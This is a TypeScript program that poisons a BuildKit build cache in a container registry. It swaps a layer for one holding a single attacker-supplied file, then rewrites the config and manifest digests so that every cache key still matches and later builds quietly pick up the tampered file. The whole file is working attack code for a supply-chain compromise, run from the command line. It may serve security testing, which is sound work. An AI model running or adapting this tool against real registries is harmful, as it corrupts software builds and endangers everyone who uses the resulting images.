import { createHash } from 'node:crypto';
import { gunzipSync, gzipSync } from 'node:zlib';
import { madeTar } from './made-tar.ts';

/**
 * Swaps one layer in a cache of BuildKit for another that holds one file, as somebody might who may write there: all keys
 * by which it is found stay as they are. It is run as a program, in a job: REGISTRY/REPOSITORY:TAG FILE CONTENT.
 */
async function poison(place: string, file: string, content: string): Promise<void> {
  const [, host = '', repository = '', tag = ''] = /^([^/]+)\/(.+):([^:/]+)$/.exec(place) ?? [];
  const base = `http://${host}/v2/${repository}`;
  const accept = 'application/vnd.oci.image.manifest.v1+json';
  const manifest = (await (await get(`${base}/manifests/${tag}`, accept)).json()) as Manifest;
  const config = Buffer.from(await (await get(`${base}/blobs/${manifest.config.digest}`)).arrayBuffer()).toString();
  const layer = await layerWith(base, manifest, file);
  const tar = madeTar([{ name: file, content }]);
  const blob = gzipSync(tar);
  const swap = (text: string): string =>
    text
      .replaceAll(layer.digest, digestOf(blob))
      .replaceAll(layer.annotations['containerd.io/uncompressed'] ?? layer.digest, digestOf(tar));
  const poisonedConfig = Buffer.from(swap(config));
  for (const bytes of [blob, poisonedConfig]) await upload(base, bytes);
  const swapped = JSON.parse(swap(JSON.stringify(manifest))) as Manifest;
  const poisoned = {
    ...swapped,
    config: { ...swapped.config, digest: digestOf(poisonedConfig), size: poisonedConfig.length },
    layers: swapped.layers.map((one) => (one.digest === digestOf(blob) ? { ...one, size: blob.length } : one)),
  };
  await put(`${base}/manifests/${tag}`, Buffer.from(JSON.stringify(poisoned)), accept);
  console.log(`poisoned ${place}`);
}

interface Descriptor {
  readonly digest: string;
  readonly size: number;
  readonly annotations: Readonly<Record<string, string>>;
}

interface Manifest {
  readonly config: Descriptor;
  readonly layers: readonly Descriptor[];
}

async function layerWith(base: string, { layers }: Manifest, file: string): Promise<Descriptor> {
  for (const layer of layers) {
    const bytes = Buffer.from(await (await get(`${base}/blobs/${layer.digest}`)).arrayBuffer());
    // As the name of an entry: other files may speak of it.
    if (gunzipSync(bytes).includes(`${file}\0`)) return layer;
  }
  throw new Error(`no layer of the cache has ${file}`);
}

async function upload(base: string, bytes: Buffer): Promise<void> {
  const begun = await fetch(`${base}/blobs/uploads/`, { method: 'POST' });
  const address = new URL(begun.headers.get('location') ?? '', base);
  address.searchParams.set('digest', digestOf(bytes));
  await put(address.href, bytes, 'application/octet-stream');
}

async function get(address: string, accept = '*/*'): Promise<Response> {
  return good(await fetch(address, { headers: { accept } }));
}

async function put(address: string, bytes: Buffer, type: string): Promise<void> {
  good(await fetch(address, { method: 'PUT', body: new Uint8Array(bytes), headers: { 'content-type': type } }));
}

function good(response: Response): Response {
  if (!response.ok) throw new Error(`${response.status} of ${response.url}`);
  return response;
}

function digestOf(bytes: Uint8Array): string {
  return `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
}

const [place = '', file = '', content = ''] = process.argv.slice(2);
await poison(place, file, content);
